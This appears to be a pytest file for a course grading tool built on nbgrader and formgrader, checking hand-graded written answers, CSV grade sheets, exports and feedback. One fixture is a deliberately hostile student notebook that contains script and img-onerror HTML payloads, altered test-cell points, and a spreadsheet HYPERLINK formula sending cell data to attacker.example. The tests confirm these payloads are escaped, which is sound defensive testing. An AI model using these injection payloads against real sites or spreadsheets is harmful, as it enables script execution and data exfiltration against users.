"""Written answers graded by hand: formgrader's course folder, the CSV sheet, and the grades in export,
summary and feedback.

Four a1 submissions, graded in the gradebook with fake reports (grading is not the point here): ada
hands in the reference notebook, bo the released one, eve a hostile one (HTML and script in her answer,
an output with JavaScript, a test cell whose points she raised, an answer that is a spreadsheet formula),
cy a git repository whose graded commit is older than its newest. ``manual prepare`` runs once per
module; hand grades are set through nbgrader's own ``Gradebook`` as formgrader sets them.
"""

import csv
import json
import shutil
import sqlite3

import pytest

from grader.paths import ASSIGNMENTS, SOLUTIONS
from grader.records.feedback import feedback_page, page_html
from grader.records.gradebook import record, stored_reports
from grader.records.results import report_from_dict
from tests.conftest import fake_report, git, run_grader

A1 = "a1_cells"
TWO_BIASES, FORGET_BIAS = f"{A1}:written-two-biases", f"{A1}:written-forget-bias"
# Markup in the answer, then a line of backticks that would close a fence of three around it, then more markup.
PAYLOAD = "Two biases.\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```\n<img src=x onerror=alert(4)>"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1, "see")'


def notebook(answers, hostile=False):
    """The released a1 notebook with these written answers ({grade id: text}); hostile: with eve's extras."""
    data = json.loads((ASSIGNMENTS / A1 / f"{A1}.ipynb").read_text())
    for cell in data["cells"]:
        info = cell["metadata"].get("nbgrader", {})
        if info.get("grade_id") in answers:
            cell["source"] = answers[info["grade_id"]]
        if hostile and cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {
                "text/html": "<img src=x onerror=alert(2)>", "application/javascript": "alert(3)"}}]
        if hostile and info.get("grade_id") == "test-parameter-counts":
            info["points"] = 100
    return data


def graded(student, digest="0" * 64, commit=None):
    """A graded a1 report: 6 of 10 hidden-test points, the notebook's test cell 4 of 4, written answers 4 points."""
    data = fake_report(student, {A1: 6.0})
    part = data["assignments"][A1]
    part["submission_hash"] = digest
    part["notebook"] = {"cells": [{"name": f"{A1}:test-parameter-counts", "points": 4.0, "max_points": 4.0}],
                        "manual_max_score": 4.0}
    if commit:
        part["lateness"] = {"status": "on-time", "commit": commit, "submitted_at": "2027-02-28T10:00:00+00:00"}
    return report_from_dict(data)


@pytest.fixture(scope="module")
def classroom(tmp_path_factory):
    """Submissions of ada, bo, eve (folders) and cy (git), two gradebooks grading them, one prepared course folder."""
    root = tmp_path_factory.mktemp("manual")
    subs = root / "submissions"
    for student in ("ada", "bo", "eve"):
        (subs / student / A1).mkdir(parents=True)
    shutil.copy(SOLUTIONS / A1 / f"{A1}.ipynb", subs / "ada" / A1)
    shutil.copy(ASSIGNMENTS / A1 / f"{A1}.ipynb", subs / "bo" / A1)
    (subs / "eve" / A1 / f"{A1}.ipynb").write_text(json.dumps(notebook(
        {"written-two-biases": PAYLOAD, "written-forget-bias": FORMULA}, hostile=True)))
    repo = subs / "cy"
    (repo / A1).mkdir(parents=True)
    git(repo, "init", "-q")
    commits = []
    for answer in ("First answer, the graded one.", "Second answer, pushed after the due date."):
        (repo / A1 / f"{A1}.ipynb").write_text(json.dumps(notebook({"written-two-biases": answer})))
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", answer)
        commits.append(git(repo, "rev-parse", "HEAD"))
    for book in ("formgrader.sqlite", "sheet.sqlite"):
        for student in ("ada", "bo", "eve"):
            record(root / book, graded(student))
        record(root / book, graded("cy", commit=commits[0]))
    folder = root / "course"
    run = run_grader("manual", "prepare", "--assignment", A1, "--gradebook", str(root / "formgrader.sqlite"),
                     "--submissions", str(subs), "--course-folder", str(folder))
    assert run.returncode == 0, run.stderr
    return root


def nbgrader_book(folder):
    from grader.semester.manual import _gradebook

    return _gradebook(folder)


def manual(root, *args, book="formgrader.sqlite"):
    return run_grader("manual", *args, "--assignment", A1, "--gradebook", str(root / book),
                      "--submissions", str(root / "submissions"), "--course-folder", str(root / "course"))


def exported(root, book):
    out = root / f"{book}.csv"
    run = run_grader("export", "--gradebook", str(root / book), "--csv", str(out))
    assert run.returncode == 0, run.stderr
    return {row["student"]: row for row in csv.DictReader(out.open())}


def written_rows(root, book):
    with sqlite3.connect(root / book) as connection:
        return connection.execute("SELECT student, cell, points, comment FROM written_grades ORDER BY 1, 2").fetchall()


def test_formgrader_lists_every_prepared_submission_for_manual_grading(classroom):
    """What formgrader's submissions API returns: nbgrader's NbGraderAPI.get_submissions, which its handler calls."""
    from nbgrader.apps import NbGraderAPI
    from traitlets.config import Config

    config = Config()
    config.CourseDirectory.root = str(classroom / "course")
    submissions = NbGraderAPI(config=config).get_submissions(A1)
    assert sorted(s["student"] for s in submissions) == ["ada", "bo", "cy", "eve"]
    for submission in submissions:
        assert submission["autograded"] and submission["submitted"] and submission["needs_manual_grade"], submission
        assert submission["max_written_score"] == 4.0 and submission["code_score"] == 4.0, submission
    with nbgrader_book(classroom / "course") as book:
        grade = book.find_grade("written-two-biases", A1, A1, "eve")
        assert grade.needs_manual_grade and grade.auto_score is None
        assert book.find_grade("test-parameter-counts", A1, A1, "eve").max_score == 4.0
    prepared = json.loads((classroom / "course" / "autograded" / "cy" / A1 / f"{A1}.ipynb").read_text())
    assert "First answer, the graded one." in json.dumps(prepared) and "Second answer" not in json.dumps(prepared)


def test_a_hostile_notebook_reaches_formgrader_as_text_only(classroom):
    from nbconvert.filters.markdown import markdown2html

    path = classroom / "course" / "autograded" / "eve" / A1 / f"{A1}.ipynb"
    prepared = json.loads(path.read_text())
    for cell in prepared["cells"]:
        assert not cell.get("outputs") and "attachments" not in cell, cell
        if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
            shown = markdown2html(cell["source"])
            assert "<img" not in shown and "<script" not in shown, shown
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "test-parameter-counts":
            assert cell["metadata"]["nbgrader"]["points"] == 4, "the released metadata, not the student's"
    answer = next(c for c in prepared["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id")
                  == "written-two-biases")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown2html(answer["source"]), "shown as typed"


def test_hand_grades_from_formgrader_reach_export_summary_and_feedback(classroom):
    folder = classroom / "course"
    before = exported(classroom, "formgrader.sqlite")
    assert before["ada"]["a1_cells"] == "10" and "written answers not graded yet: a1_cells (4 points)" in \
        before["ada"]["reason"]
    with nbgrader_book(folder) as book:
        book.find_grade("written-two-biases", A1, A1, "bo").manual_score = 5.0
        book.db.commit()
    refused = manual(classroom, "import")
    assert refused.returncode == 2 and refused.stderr.count("\n") == 1, refused.stderr
    assert "bo a1_cells:written-two-biases: 5 points" in refused.stderr and "0 to 2" in refused.stderr
    assert written_rows(classroom, "formgrader.sqlite") == []

    with nbgrader_book(folder) as book:
        book.find_grade("written-two-biases", A1, A1, "bo").manual_score = None
        book.find_grade("written-two-biases", A1, A1, "ada").manual_score = 1.5
        book.find_comment("written-two-biases", A1, A1, "ada").manual_comment = "Right: only the sum counts."
        book.find_grade("written-forget-bias", A1, A1, "ada").manual_score = 2.0
        book.find_grade("written-forget-bias", A1, A1, "cy").manual_score = 1.0
        book.db.commit()
    again = manual(classroom, "prepare")          # a second prepare keeps every hand grade
    assert again.returncode == 0 and "0 new or changed" in again.stdout, again.stdout + again.stderr
    run = manual(classroom, "import")
    assert run.returncode == 0 and "recorded 3 hand grade(s)" in run.stdout, run.stdout + run.stderr

    rows = exported(classroom, "formgrader.sqlite")
    assert (rows["ada"]["a1_cells"], rows["ada"]["max_total"], rows["ada"]["reason"]) == ("13.5", "18", "")
    assert (rows["cy"]["a1_cells"], rows["cy"]["max_total"]) == ("11", "16")
    assert "written answers not graded yet: a1_cells (2 points)" in rows["cy"]["reason"]
    assert "(4 points)" in rows["bo"]["reason"]
    summary = run_grader("summary", "--gradebook", str(classroom / "formgrader.sqlite")).stdout
    assert "Written answers not graded yet for 3 student(s): bo, cy, eve" in summary, summary

    reports = {s: r for s, _, r in stored_reports(classroom / "formgrader.sqlite")}
    ada = page_html(feedback_page("ada", A1, reports["ada"]))
    assert "Written answers: 3.5 / 4" in ada and "Right: only the sum counts." in ada and "not graded yet" not in ada
    assert "Written answers not graded yet (4 points)" in page_html(feedback_page("bo", A1, reports["bo"]))

    record(classroom / "formgrader.sqlite", graded("ada", digest="1" * 64))     # re-graded on other work
    assert "not graded yet: a1_cells (4 points)" in exported(classroom, "formgrader.sqlite")["ada"]["reason"]


def test_hand_grades_in_a_report_file_are_never_believed(tmp_path):
    report = graded("mallory").to_dict()
    report["assignments"][A1]["notebook"]["written"] = [{"cell": TWO_BIASES, "points": 2.0, "max_points": 2.0}]
    (tmp_path / "mallory.json").write_text(json.dumps(report))
    run = run_grader("collect", str(tmp_path / "mallory.json"), "--gradebook", str(tmp_path / "g.sqlite"))
    assert run.returncode == 0, run.stderr
    assert exported(tmp_path, "g.sqlite")["mallory"]["a1_cells"] == "10"


def test_the_sheet_round_trip(classroom):
    sheet = classroom / "sheet.csv"
    run = manual(classroom, "sheet", "--out", str(sheet), book="sheet.sqlite")
    assert run.returncode == 0, run.stderr
    assert sheet.read_text().splitlines()[0] == "student,cell,answer,max_points,points,comment"
    rows = list(csv.DictReader(sheet.open()))
    assert [(r["student"], r["cell"]) for r in rows][:2] == [("ada", TWO_BIASES), ("ada", FORGET_BIAS)]
    assert len(rows) == 8 and {r["max_points"] for r in rows} == {"2"}
    answers = {(r["student"], r["cell"]): r["answer"] for r in rows}
    assert answers["eve", FORGET_BIAS] == "'" + FORMULA, "a formula reaches the spreadsheet as text"
    assert answers["cy", TWO_BIASES] == "First answer, the graded one."
    assert answers["bo", TWO_BIASES] == "YOUR ANSWER HERE"
    for row in rows:
        if row["student"] == "eve":
            row.update(points="0.5", comment="Say it in your own words.")
    with sheet.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    run = manual(classroom, "import", "--sheet", str(sheet), book="sheet.sqlite")
    assert run.returncode == 0 and "recorded 2 hand grade(s)" in run.stdout, run.stdout + run.stderr
    eve = exported(classroom, "sheet.sqlite")["eve"]
    assert (eve["a1_cells"], eve["max_total"], eve["reason"]) == ("11", "18", "")
    again = manual(classroom, "sheet", "--out", str(classroom / "again.csv"), book="sheet.sqlite")
    assert again.returncode == 0
    assert [(r["points"], r["comment"]) for r in csv.DictReader((classroom / "again.csv").open())
            if r["student"] == "eve"] == [("0.5", "Say it in your own words.")] * 2


@pytest.mark.parametrize("change, message", [
    ({"points": "3"}, "points must be a number from 0 to 2, not '3'"),
    ({"points": "-1"}, "points must be a number from 0 to 2, not '-1'"),
    ({"points": "lots"}, "points must be a number from 0 to 2, not 'lots'"),
    ({"points": "nan"}, "points must be a number from 0 to 2, not 'nan'"),
    ({"student": "zed", "points": "1"}, "unknown student 'zed'"),
    ({"cell": f"{A1}:written-essay", "points": "1"}, "unknown cell 'a1_cells:written-essay'"),
    ({"points": "", "comment": "Good."}, "has a comment but no points"),
])
def test_a_bad_sheet_row_is_named_and_nothing_is_imported(classroom, change, message):
    sheet = classroom / f"bad-{len(message)}.csv"
    rows = [{"student": "bo", "cell": TWO_BIASES, "answer": "", "max_points": "2", "points": "1", "comment": ""},
            dict({"student": "bo", "cell": FORGET_BIAS, "answer": "", "max_points": "2", "points": "1",
                  "comment": ""}, **change)]
    with sheet.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    before = written_rows(classroom, "sheet.sqlite")
    run = manual(classroom, "import", "--sheet", str(sheet), book="sheet.sqlite")
    assert run.returncode == 2 and run.stderr.startswith("error: ") and run.stderr.count("\n") == 1, run.stderr
    assert f"{sheet} row 3: " in run.stderr and message in run.stderr, run.stderr
    assert written_rows(classroom, "sheet.sqlite") == before


def test_a_repeated_row_and_an_assignment_without_written_answers_are_refused(classroom, tmp_path):
    sheet = tmp_path / "twice.csv"
    sheet.write_text(f"student,cell,answer,max_points,points,comment\nbo,{TWO_BIASES},,2,1,\nbo,{TWO_BIASES},,2,2,\n")
    run = manual(classroom, "import", "--sheet", str(sheet), book="sheet.sqlite")
    assert run.returncode == 2 and "row 3: bo a1_cells:written-two-biases is graded twice (also in row 2)" in run.stderr
    run = run_grader("manual", "import", "--assignment", "a9_none", "--sheet", str(sheet))
    assert run.returncode == 2 and "unknown assignment 'a9_none'" in run.stderr, run.stderr
